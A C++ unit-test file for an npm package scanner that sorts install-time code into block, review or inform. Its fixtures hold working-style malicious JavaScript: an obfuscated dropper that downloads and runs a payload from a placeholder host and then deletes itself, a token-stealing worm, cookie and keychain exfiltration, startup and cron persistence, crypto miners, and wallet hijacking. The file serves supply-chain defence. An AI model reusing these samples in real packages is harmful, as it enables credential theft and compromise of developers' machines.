#include "inspect/conjunctions.h"

#include <gtest/gtest.h>

#include "inspect/testing.h"

namespace cordon::inspect {
namespace {

using testing::highest;
using testing::installing;
using testing::Package;
using testing::tier_of;

Tier judged(const Package& package, std::string_view rule, const ReleaseContext& context = {}) {
  return tier_of(conclude(package.peek(), context), rule);
}

// What a command fetches and runs, with every name hidden: the second package of the axios incident, without its
// server.
const char* const kDropper = R"(
const table = ['ssecorp_dlihc', 'sf', 'htap', 'cnySknilnu', 'cnySemaner', 'nwaps']
  .map((w) => w.split('').reverse().join(''));
const processes = require(table[0]), files = require(table[1]), paths = require(table[2]);
const place = paths.join('/tmp', 'ld.py');
const line = 'curl -s -o ' + place + ' http://c.example.test:8000/1 && nohup python3 ' + place + ' > /dev/null 2>&1 &';
processes[table[5]]('/bin/sh', ['-c', line], { detached: true, stdio: 'ignore' }).unref();
files[table[3]](__filename);
files[table[4]](paths.join(__dirname, 'package.md'), paths.join(__dirname, 'package.json'));)";

TEST(Conjunctions, TheDropperOfAPhantomDependency) {
  const std::vector<Conclusion> found = conclude(installing(kDropper).peek());
  EXPECT_EQ(tier_of(found, "inspect.download-and-run"), Tier::block);
  EXPECT_EQ(tier_of(found, "inspect.covers-tracks"), Tier::review);
  EXPECT_EQ(tier_of(found, "inspect.obfuscated-install-code"), Tier::review);
  for (const Conclusion& each : found) EXPECT_FALSE(each.evidence.empty());
}

TEST(Conjunctions, APhantomDependencyThatIsYoungAndRuns) {
  const Package host(R"({"name": "p", "version": "1.0.1", "dependencies": {"q": "1"}})");
  std::vector<NewDependency> added{
      {.name = "q", .version = "4.2.1", .is_phantom = true, .age_hours = 2, .runs_at_install = true, .flags = {}}};
  const auto tier = [&](bool is_minor) {
    return judged(host, "inspect.phantom-dependency",
                  {.previous = nullptr, .is_minor_step = is_minor, .dependencies = added});
  };
  EXPECT_EQ(tier(true), Tier::block);
  EXPECT_EQ(tier(false), Tier::inform);
  added[0].flags = {FlagKind::shell_download, FlagKind::checks_digest, FlagKind::self_deletion};
  const auto told =
      conclude(host.peek(), {.previous = nullptr, .is_minor_step = true, .dependencies = added}).front().parts;
  EXPECT_EQ(told.back(), "and which runs code at installation: shell_download, self_deletion");
  added[0].age_hours = 80;
  EXPECT_EQ(tier(true), Tier::review);
  added[0].age_hours.reset();
  added[0].runs_at_install = false;
  EXPECT_EQ(tier(true), Tier::inform);
  added[0] = {
      .name = "q", .version = "4.2.1", .is_phantom = false, .age_hours = 2, .runs_at_install = true, .flags = {}};
  EXPECT_EQ(tier(true), Tier::inform);
}

const char* const kWorm = R"(
const fs = require('fs'), https = require('https'), path = require('path'), { spawnSync } = require('child_process');
const token = fs.readFileSync(path.join(process.env.HOME, '.npmrc'), 'utf8').match(/_authToken=(.*)/)[1];
fs.writeFileSync(path.join(folder, 'package.json'), JSON.stringify({ name, version }));
spawnSync('npm', ['publish', folder], { stdio: 'ignore' });)";

TEST(Conjunctions, AWormPublishesRewritesAndReadsAToken) {
  Package package(R"({"name": "p", "version": "1.0.0"})");
  package
      .add("binding.gyp",
           R"gyp({"targets": [{"target_name": "p", "type": "none", "variables": {"a": "<!(node c.js)"}}]})gyp")
      .add("c.js", kWorm);
  EXPECT_EQ(judged(package, "inspect.publishes-others"), Tier::block);
  EXPECT_EQ(judged(package, "inspect.gyp-runs-script"), Tier::review);
  // A tool that publishes what it is told to is no worm: nothing of it runs at installation.
  Package tool(R"({"name": "p", "version": "1.0.0", "bin": "c.js", "main": "c.js"})");
  tool.add("c.js", kWorm);
  EXPECT_EQ(highest(conclude(tool.peek())), Tier::inform);
}

TEST(Conjunctions, GypThatLooksBeforeItBuildsIsOrdinary) {
  Package package(R"({"name": "p", "version": "1.0.0"})");
  package
      .add("binding.gyp",
           R"gyp({"targets": [{"target_name": "p", "sources": ["a.cc"],
              "variables": {"a": "<!(node util/has_lib.js jpeg)"}}]})gyp")
      .add("util/has_lib.js",
           "const { execSync } = require('child_process'); console.log(execSync('ldconfig "
           "-p').includes(process.argv[2]));")
      .add("a.cc", "");
  EXPECT_EQ(highest(conclude(package.peek())), Tier::inform);
}

TEST(Conjunctions, WhatIsCheckedOrExplainedIsNoDropper) {
  const std::string head =
      "const https = require('https'), fs = require('fs'), cp = require('child_process'), crypto = "
      "require('crypto');\n";
  const std::string run = "https.get(address, (r) => { r.pipe(fs.createWriteStream(place)); cp.spawnSync(place); });";
  const std::string place = "const place = '/tmp/x.bin';";
  EXPECT_EQ(judged(installing(head + place + "const address = 'https://a.example.test/x';" + run),
                   "inspect.download-and-run"),
            Tier::block);
  EXPECT_EQ(judged(installing(head + place +
                              "const address = 'https://a.example.test/x';"
                              "https.get(address, (r) => r.pipe(crypto.createHash('sha256')));" +
                              run),
                   "inspect.download-and-run"),
            Tier::review);
  Package own(
      R"({"name": "p", "version": "1.0.0", "repository": "acme/p", "scripts": {"postinstall": "node setup.js"}})");
  own.add("setup.js", head + place + "const address = 'https://github.com/acme/p/releases/x';" + run);
  EXPECT_EQ(judged(own, "inspect.download-and-run"), Tier::inform);
  Package others(
      R"({"name": "p", "version": "1.0.0", "repository": "acme/p", "scripts": {"postinstall": "node setup.js"}})");
  others.add("setup.js", head + place + "const address = 'https://github.com/somebody/p/releases/x';" + run);
  EXPECT_EQ(judged(others, "inspect.download-and-run"), Tier::block);
}

TEST(Conjunctions, WritingWhatAnAgentRuns) {
  const char* const code =
      "const fs = require('fs'), os = require('os'), path = require('path');\n"
      "fs.writeFileSync(path.join(os.homedir(), '.claude', 'settings.json'), '{}');";
  EXPECT_EQ(judged(installing(code), "inspect.writes-control-files"), Tier::block);
  const char* const hooks =
      "require('fs').writeFileSync(require('path').join(root, '.git', 'hooks', 'pre-commit'), 'x');";
  EXPECT_EQ(judged(installing(hooks), "inspect.writes-control-files"), Tier::block);
  Package manager(
      R"({"name": "p", "version": "1.0.0", "keywords": ["git-hooks"], "scripts": {"postinstall": "node setup.js"}})");
  manager.add("setup.js", hooks);
  EXPECT_EQ(judged(manager, "inspect.writes-control-files"), Tier::inform);
  // The path comes by way of functions, so that no text at the call names it.
  const std::string by_function = std::string("const fs = require('fs'), path = require('path');\n") +
                                  "function place(root) { return path.join(root, '.git', 'hooks'); }\n"
                                  "function set(hook, text) { const folder = place(process.cwd());\n"
                                  "  const file = path.join(folder, hook); fs.writeFileSync(file, text); }\n"
                                  "set('pre-commit', 'x');\n";
  EXPECT_EQ(judged(installing(by_function), "inspect.writes-control-files"), Tier::block);
  Package other(
      R"({"name": "p", "version": "1.0.0", "keywords": ["git", "hook"], "scripts": {"postinstall": "node setup.js"}})");
  other.add("setup.js", by_function);
  EXPECT_EQ(judged(other, "inspect.writes-control-files"), Tier::inform);
}

TEST(Conjunctions, WritingOverWhatAListOfTheProjectGives) {
  const std::string head = "const fs = require('fs'), path = require('path');\n";
  const std::string list =
      "function all(folder) { return fs.readdirSync(folder).map((name) => path.join(folder, name)); }\n";
  const auto tier = [&](const std::string& code) {
    return judged(installing(head + list + code), "inspect.overwrites-project");
  };
  EXPECT_EQ(tier("for (const file of all(process.env.INIT_CWD)) fs.writeFileSync(file, 'x');"), Tier::block);
  EXPECT_EQ(tier("const { INIT_CWD } = process.env; all(INIT_CWD).forEach((file) => fs.unlinkSync(file));"),
            Tier::block);
  EXPECT_EQ(tier("for (const file of all(path.join(__dirname, 'dist'))) fs.writeFileSync(file, 'x');"), Tier::inform);
  EXPECT_EQ(tier("for (const file of all(process.env.INIT_CWD)) fs.readFileSync(file);"), Tier::inform);
  EXPECT_EQ(tier("fs.writeFileSync(path.join(process.env.INIT_CWD, 'worker.js'), 'x');"), Tier::inform);
  EXPECT_EQ(tier("fs.readdir(process.env.INIT_CWD, (error, names) => names.forEach((each) => fs.rmSync(each)));"),
            Tier::block);
}

TEST(Conjunctions, MinersAreKnownByWhatTheySayBesideWhatTheyDo) {
  const auto tier = [](const std::string& code) { return judged(installing(code), "inspect.mines"); };
  EXPECT_EQ(tier("require('net').connect(3333, h).write(JSON.stringify({ method: 'mining.subscribe' }));"),
            Tier::block);
  EXPECT_EQ(tier("require('child_process').spawn('./x', ['-o', 'stratum+tcp://pool.example.test:3333']);"),
            Tier::block);
  EXPECT_EQ(tier("const bad = ['xmrig']; console.log(bad);"), Tier::inform);
  EXPECT_EQ(tier("require('net').connect(3333, h).write(JSON.stringify({ method: 'mine.subscribe' }));"), Tier::inform);
  // A list of what is bad, beside anything else that the code does.
  EXPECT_EQ(tier("const bad = ['xmrig', 'minerd']; require('https').get('https://a.example.test/list');"),
            Tier::review);
  EXPECT_EQ(tier("const bad = ['xmrig']; require('child_process').execSync('ps aux');"), Tier::review);
  // The program itself, or where it is fetched from.
  EXPECT_EQ(tier("require('child_process').spawn('./xmrig', ['--cpu-priority', '5']);"), Tier::block);
  EXPECT_EQ(tier("require('https').get('https://a.example.test/xmrig.tar.gz');"), Tier::block);
  const auto command = [](const std::string& text) {
    const Package package(R"({"name": "p", "version": "1.0.0", "scripts": {"postinstall": ")" + text + "\"}}");
    return judged(package, "inspect.mines");
  };
  EXPECT_EQ(command("./xmrig -o stratum+tcp://pool.example.test:3333"), Tier::block);
  EXPECT_EQ(command("pkill xmrig"), Tier::inform);
}

TEST(Conjunctions, NamesThatOtherFilesHaveNeedTheirFolder) {
  const std::string head = "const fs = require('fs'), path = require('path'), os = require('os');\n";
  const std::string send = "fetch('https://a.example.test/x?' + Buffer.from(c).toString('base64'));";
  const auto sends = [&](const std::string& where) {
    return judged(installing(head + "const c = fs.readFileSync(" + where + ");" + send), "inspect.sends-secrets");
  };
  EXPECT_EQ(sends("path.join(__dirname, 'data', 'Cookies')"), Tier::inform);
  EXPECT_EQ(sends("path.join(os.homedir(), 'AppData/Local/Browser/User Data/Default', 'Cookies')"), Tier::block);
  EXPECT_EQ(sends("path.join(os.homedir(), 'Library', 'Keychains', 'a.db')"), Tier::block);
  const auto writes = [&](const std::string& where) {
    return judged(installing(head + "fs.writeFileSync(" + where + ", 'x');"), "inspect.writes-control-files");
  };
  EXPECT_EQ(writes("path.join(__dirname, 'Startup', 'index.js')"), Tier::inform);
  EXPECT_EQ(writes("'dist/cron.d'"), Tier::inform);
  EXPECT_EQ(writes("path.join(process.env.APPDATA, 'Microsoft/Windows/Start Menu/Programs/Startup/a.vbs')"),
            Tier::block);
  EXPECT_EQ(writes("path.join('/etc', 'cron.d', 'a')"), Tier::block);
}

TEST(Conjunctions, ReplacingAWalletNeedsAllThree) {
  const std::string replaces = "window.ethereum.request = (a) => swap(a);\n";
  const std::string patterns = "const p = [/\\b0x[a-fA-F0-9]{40}\\b/, /\\bbc1[a-z0-9]{39}\\b/];\n";
  const std::string list =
      "const l = ['0x00000000000000000000000000000000000000a1', '0x00000000000000000000000000000000000000a2'];\n";
  const auto tier = [](const std::string& code) {
    Package package(R"({"name": "p", "version": "1.0.0", "main": "index.js"})");
    return judged(package.add("index.js", code), "inspect.replaces-wallet");
  };
  EXPECT_EQ(tier(replaces + patterns + list), Tier::block);
  EXPECT_EQ(tier(replaces + patterns), Tier::inform);
  EXPECT_EQ(tier(patterns + list), Tier::inform);
}

TEST(Conjunctions, WhatIsNewAtInstallation) {
  const Package before(R"({"name": "p", "version": "1.0.0"})");
  const Package quiet(R"({"name": "p", "version": "1.0.1", "scripts": {"postinstall": "node-gyp-build"}})");
  const PreviousRelease nothing = previous_of(before.peek()), same = previous_of(quiet.peek());
  EXPECT_EQ(
      judged(quiet, "inspect.new-install-code", {.previous = &nothing, .is_minor_step = true, .dependencies = {}}),
      Tier::review);
  EXPECT_EQ(judged(quiet, "inspect.new-install-code", {.previous = &same, .is_minor_step = true, .dependencies = {}}),
            Tier::inform);
  const Package asks = installing("require('https').get('https://a.example.test/x')");
  const PreviousRelease asked = previous_of(asks.peek()),
                        other = previous_of(installing("require('https').get('https://b.example.test/x')").peek());
  EXPECT_EQ(judged(asks, "inspect.new-install-host", {.previous = &other, .is_minor_step = true, .dependencies = {}}),
            Tier::review);
  EXPECT_EQ(judged(asks, "inspect.new-install-host", {.previous = &asked, .is_minor_step = true, .dependencies = {}}),
            Tier::inform);
}

TEST(Conjunctions, NoSingleFlagBlocks) {
  for (const char* code : {"require('fs').unlinkSync(__filename)", "Object.entries(process.env)",
                           "require('child_process').exec('curl x -o y')", "read('.npmrc')", "require(x)", "eval(x)",
                           "require('http').get('http://a.example.test')",
                           "require('child_process').spawn('a', [], { detached: true })", "window.fetch = f"})
    EXPECT_EQ(highest(conclude(installing(code).peek())), Tier::inform) << code;
}

TEST(Conjunctions, TheOrderOfFilesSaysNothing) {
  Package package = installing(kDropper);
  package.add("index.js", "require('a')").add("lib/b.js", "require('c')");
  const Peek one = package.peek();
  std::ranges::reverse(package.files());
  const Peek other = package.peek();
  EXPECT_EQ(one.flags.size(), other.flags.size());
  EXPECT_EQ(one.named, other.named);
  EXPECT_EQ(one.not_inspected, other.not_inspected);
}

}  // namespace
}  // namespace cordon::inspect
